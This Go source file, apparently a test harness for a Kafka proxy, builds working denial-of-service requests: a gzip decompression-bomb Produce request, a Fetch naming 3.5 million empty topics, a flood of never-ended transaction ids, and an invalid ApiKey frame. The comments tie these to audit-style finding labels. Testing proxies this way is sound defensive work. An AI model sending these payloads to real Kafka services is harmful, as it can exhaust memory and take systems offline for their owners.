package attacks

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"net"
	"sync"
	"time"

	"github.com/klauspost/compress/gzip"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// kafkaFrame is a request: its size, a v1 header (no client id) and body.
func kafkaFrame(key, version int16, corr int32, body []byte) []byte {
	h := binary.BigEndian.AppendUint16(nil, uint16(key))
	h = binary.BigEndian.AppendUint16(h, uint16(version))
	h = binary.BigEndian.AppendUint32(h, uint32(corr))
	h = binary.BigEndian.AppendUint16(h, 0xffff)
	return append(append(binary.BigEndian.AppendUint32(nil, uint32(len(h)+len(body))), h...), body...)
}

// gzipBomb is a Produce v3 (acks=0) whose one partition carries as many
// gzip batches, each inflating to 8 MiB of zeros, as fit in about 957 KB:
// the H1 request.
var gzipBomb = sync.OnceValue(func() []byte {
	r := kmsg.Record{Value: make([]byte, 8<<20)}
	r.Length = int32(len(r.AppendTo(nil)) - 1)
	var z bytes.Buffer
	zw := gzip.NewWriter(&z)
	zw.Write(r.AppendTo(nil))
	zw.Close()
	b := kmsg.RecordBatch{Magic: 2, Attributes: 1, NumRecords: 1, Records: z.Bytes(), ProducerID: -1}
	one := b.AppendTo(nil)
	binary.BigEndian.PutUint32(one[8:12], uint32(len(one)-12))
	binary.BigEndian.PutUint32(one[17:21], crc32.Checksum(one[21:], crc32.MakeTable(crc32.Castagnoli)))
	records := bytes.Repeat(one, 957<<10/len(one))
	req := kmsg.NewPtrProduceRequest()
	req.Version, req.Acks, req.TimeoutMillis = 3, 0, 5000
	rt := kmsg.NewProduceRequestTopic()
	rt.Topic = "bomb"
	rp := kmsg.NewProduceRequestTopicPartition()
	rp.Records = records
	rt.Partitions = append(rt.Partitions, rp)
	req.Topics = append(req.Topics, rt)
	return kafkaFrame(0, 3, 1, req.AppendTo(nil))
})

// manyTopics is a Fetch v2 naming 3.5M topics of empty names and no
// partitions (21 MB): the M4 request.
var manyTopics = sync.OnceValue(func() []byte {
	const topics = 3_500_000
	body := binary.BigEndian.AppendUint32(nil, 0xffffffff)
	body = append(body, 0, 0, 0, 0, 0, 0, 0, 1)
	body = binary.BigEndian.AppendUint32(body, topics)
	body = append(body, make([]byte, 6*topics)...)
	return kafkaFrame(1, 2, 1, body)
})

// addOffsetsToTxn is an AddOffsetsToTxn v0 of a transactional id (M3: one
// the proxy keeps until its EndTxn, which never comes).
func addOffsetsToTxn(id string, corr int32) []byte {
	req := kmsg.NewPtrAddOffsetsToTxnRequest()
	req.TransactionalID, req.Group = id, "g"
	return kafkaFrame(25, 0, corr, req.AppendTo(nil))
}

var txnConn sync.Mutex

func kafkaAttacks() []attack {
	return []attack{
		{name: "Kafka H1 957 KB acks=0 gzip-batch Produce ×2", kind: "kafka", n: 2, run: func(c net.Conn) string {
			c.Write(gzipBomb())
			return answer(c, 20*time.Second)
		}},
		{name: "Kafka H1 957 KB acks=0 gzip-batch Produce ×8", kind: "kafka", run: func(c net.Conn) string {
			c.Write(gzipBomb())
			return answer(c, 20*time.Second)
		}},
		{name: "Kafka M4 Fetch naming 3.5M topics (21 MB)", kind: "kafka", n: 1, run: func(c net.Conn) string {
			c.Write(manyTopics())
			return answer(c, 20*time.Second)
		}},
		{name: "Kafka M3 20,000 open txn ids of 2 KB per conn", kind: "kafka", run: func(c net.Conn) string {
			go func() {
				pad := string(bytes.Repeat([]byte("t"), 2000))
				txnConn.Lock()
				defer txnConn.Unlock()
				for i := range 20000 {
					if _, err := c.Write(addOffsetsToTxn(fmt.Sprintf("%s-%p-%d", pad, c, i), int32(i))); err != nil {
						return
					}
				}
			}()
			c.SetReadDeadline(time.Now().Add(60 * time.Second))
			n, _ := discardAll(c)
			return fmt.Sprintf("read %d bytes of answers", n)
		}},
		{name: "Kafka H4 ApiKey 999", kind: "kafka", n: 1, run: func(c net.Conn) string {
			c.Write(kafkaFrame(999, 0, 1, nil))
			return answer(c, 5*time.Second)
		}},
	}
}

// discardAll reads until the connection ends or its deadline passes.
func discardAll(c net.Conn) (int64, error) {
	buf := make([]byte, 64<<10)
	var total int64
	for {
		n, err := c.Read(buf)
		total += int64(n)
		if err != nil {
			return total, err
		}
	}
}
